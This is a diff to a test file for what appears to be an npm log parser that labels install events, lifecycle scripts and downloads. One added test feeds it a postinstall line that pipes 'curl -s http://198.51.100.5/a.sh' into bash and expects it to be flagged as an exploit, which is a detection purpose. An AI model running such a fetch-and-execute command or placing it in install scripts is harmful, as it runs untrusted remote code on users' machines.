@@ -32,13 +32,19 @@ test('what was put in and which scripts ran', () => {
     'package success root command npm install ../colour-helper-1.4.1.tgz',
     'package root colour-helper@1.4.1 install',
     'download root http://198.51.100.5/x.tgz',
-    'command root colour-helper@1.4.1 preinstall echo pre',
-    `command root @a/colour-helper@1.4.1 postinstall node -e "console.log('post')"`,
+    'package root colour-helper@1.4.1 preinstall echo pre',
+    `package root @a/colour-helper@1.4.1 postinstall node -e "console.log('post')"`,
     'error failure root colour-helper@1.4.1 postinstall',
     'package root colour-helper added',
-    'command root rc@1.2.9 preinstall',
+    'package root rc@1.2.9 preinstall',
   ])
   assert.deepEqual(draftsOf(npmLog, path, lines[7]!)[0]?.time, { ms: Date.UTC(2026, 10, 22, 1, 19, 13, 361), zoned: true, grain: 300 })
+})
+
+test('a script that is an attack by what it says', () => {
+  assert.deepEqual(told('19 info run x@1.0.0 postinstall node_modules/x curl -s http://198.51.100.5/a.sh | bash'), [
+    'exploit root x@1.0.0 postinstall curl -s http://198.51.100.5/a.sh | bash',
+  ])
 })
 
 test('near misses, and a line that a package prints', () => {
